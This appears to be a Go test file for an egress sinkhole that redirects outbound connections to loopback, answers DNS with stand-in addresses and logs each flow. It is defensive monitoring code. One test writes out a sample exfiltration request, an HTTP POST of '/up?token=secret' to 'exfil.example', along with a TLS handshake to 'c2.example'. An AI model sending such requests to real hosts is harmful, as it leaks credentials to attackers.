package egress

import (
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/dns/dnsmessage"
)

// onLoopback opens sockets on loopback whatever address is asked for, and tells
// where.
func onLoopback(t *testing.T, at map[string]string) func(network, address string, port int) (*os.File, error) {
	return func(network, address string, port int) (*os.File, error) {
		key := fmt.Sprintf("%s %s:%d", network, address, port)
		if network == "tcp" {
			l, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				return nil, err
			}
			defer l.Close()
			at[key] = l.Addr().String()
			return l.(*net.TCPListener).File()
		}
		c, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			return nil, err
		}
		defer c.Close()
		at[key] = c.LocalAddr().String()
		return c.(*net.UDPConn).File()
	}
}

func dial(t *testing.T, network, address string) net.Conn {
	t.Helper()
	conn, err := net.Dial(network, address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	return conn
}

func question(t *testing.T, name string, kind dnsmessage.Type) []byte {
	t.Helper()
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7, RecursionDesired: true})
	if err := b.StartQuestions(); err != nil {
		t.Fatal(err)
	}
	if err := b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName(name), Type: kind, Class: dnsmessage.ClassINET}); err != nil {
		t.Fatal(err)
	}
	message, err := b.Finish()
	if err != nil {
		t.Fatal(err)
	}
	return message
}

func TestSinkholeRecordsFlows(t *testing.T) {
	s := NewSinkhole(func(network string, _ int) int { return map[string]int{"tcp": 7, "udp": 8}[network] })
	at := map[string]string{}
	listen := onLoopback(t, at)
	s.Contact(Contact{Network: "udp", Address: "198.19.255.53", Port: 53}, listen)
	resolver := dial(t, "udp", at["udp 198.19.255.53:53"])
	if _, err := resolver.Write(question(t, "exfil.example.", dnsmessage.TypeA)); err != nil {
		t.Fatal(err)
	}
	reply := make([]byte, 512)
	n, err := resolver.Read(reply)
	if err != nil {
		t.Fatal(err)
	}
	var answer dnsmessage.Message
	if err := answer.Unpack(reply[:n]); err != nil {
		t.Fatal(err)
	}
	a, ok := answer.Answers[0].Body.(*dnsmessage.AResource)
	if !ok || answer.ID != 7 || !answer.Response {
		t.Fatalf("answer %+v", answer)
	}
	address := net.IP(a.A[:]).String()
	if got := s.Host(address); got != "exfil.example" {
		t.Errorf("host of %s is %q", address, got)
	}

	s.Contact(Contact{Network: "tcp", Address: address, Port: 80}, listen)
	s.Contact(Contact{Network: "tcp", Address: address, Port: 80}, listen) // served already
	plain := dial(t, "tcp", at["tcp "+address+":80"])
	fmt.Fprint(plain, "POST /up?token=secret HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 4\r\n\r\nbody")
	plain.Close()

	s.Contact(Contact{Network: "tcp", Address: address, Port: 443}, listen)
	secure := dial(t, "tcp", at["tcp "+address+":443"])
	_ = secure.SetDeadline(time.Now().Add(200 * time.Millisecond))
	_ = tls.Client(secure, &tls.Config{ServerName: "c2.example"}).Handshake() // nobody answers
	secure.Close()

	s.Contact(Contact{Network: "udp", Address: "203.0.113.7", Port: 9999}, listen)
	packets := dial(t, "udp", at["udp 203.0.113.7:9999"])
	for range 2 {
		if _, err := packets.Write([]byte("ping")); err != nil {
			t.Fatal(err)
		}
	}
	time.Sleep(50 * time.Millisecond) // datagrams are read beside
	s.Close()

	type row struct {
		Process                                        int
		Protocol, Hostname, SNI, Host, Request, Opened string
		Bytes                                          int64
	}
	var got []row
	for _, f := range s.Flows() {
		first, err := base64.StdEncoding.DecodeString(f.FirstBytes)
		if err != nil {
			t.Fatal(err)
		}
		r := row{f.Process, f.Protocol, f.Hostname, f.ServerName, f.HTTPHost, f.HTTPRequest, string(first), f.Bytes}
		if f.Port == 443 {
			r.Opened, r.Bytes = "", 0 // a hello is random
		}
		if f.Port == 80 && !strings.HasSuffix(r.Opened, "body") {
			t.Errorf("first bytes %q", r.Opened)
		}
		if f.Port == 80 {
			r.Opened, r.Bytes = "", 0
		}
		got = append(got, r)
	}
	want := map[row]bool{
		{7, "tcp", "exfil.example", "", "exfil.example", "POST /up?token=secret", "", 0}: true,
		{7, "tcp", "exfil.example", "c2.example", "", "", "", 0}:                         true,
		{8, "udp", "", "", "", "", "ping", 8}:                                            true,
	}
	have := map[row]bool{}
	for _, r := range got {
		have[r] = true
	}
	if diff := cmp.Diff(want, have); diff != "" {
		t.Errorf("flows (-want +got):\n%s", diff)
	}
	if q := s.Queries(); len(q) != 1 || q[0].Name != "exfil.example" || q[0].Type != "A" || q[0].Server != "198.19.255.53" || q[0].Process != 8 {
		t.Errorf("queries %+v", q)
	}
}

func TestSinkholeLeavesLoopbackAlone(t *testing.T) {
	s := NewSinkhole(func(string, int) int { return 0 })
	for _, address := range []string{"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "not an address"} {
		s.Contact(Contact{Network: "tcp", Address: address, Port: 80}, func(network, address string, port int) (*os.File, error) {
			t.Errorf("a socket was opened for %s", address)
			return nil, os.ErrInvalid
		})
	}
	s.Close()
}

func TestAnswer(t *testing.T) {
	s := NewSinkhole(func(string, int) int { return 0 })
	for _, c := range []struct {
		name    string
		message []byte
		replies bool
		answers int
	}{
		{"address", question(t, "a.example.", dnsmessage.TypeA), true, 1},
		{"address again, other case", question(t, "A.example.", dnsmessage.TypeA), true, 1},
		{"IPv6 address", question(t, "a.example.", dnsmessage.TypeAAAA), true, 0},
		{"text", question(t, "t.example.", dnsmessage.TypeTXT), true, 0},
		{"not a message", []byte("hello"), false, 0},
		{"nothing", nil, false, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			reply := s.answer(c.message, 0, "192.0.2.1")
			if (reply != nil) != c.replies {
				t.Fatalf("reply %x, want one: %t", reply, c.replies)
			}
			var m dnsmessage.Message
			if c.replies {
				if err := m.Unpack(reply); err != nil {
					t.Fatal(err)
				}
			}
			if len(m.Answers) != c.answers {
				t.Errorf("%d answers, want %d", len(m.Answers), c.answers)
			}
		})
	}
	if len(s.given) != 2 {
		t.Errorf("%d names have an address, want 2", len(s.given))
	}
}

func FuzzAnswer(f *testing.F) {
	f.Add([]byte("hello"))
	f.Add([]byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 1, 'a', 0, 0, 1, 0, 1})
	f.Fuzz(func(t *testing.T, message []byte) {
		s := NewSinkhole(func(string, int) int { return 0 })
		if reply := s.answer(message, 0, "192.0.2.1"); reply != nil {
			var m dnsmessage.Message
			if err := m.Unpack(reply); err != nil {
				t.Errorf("reply does not parse: %v", err)
			}
		}
		serverName(message)
		httpRequest(message)
	})
}
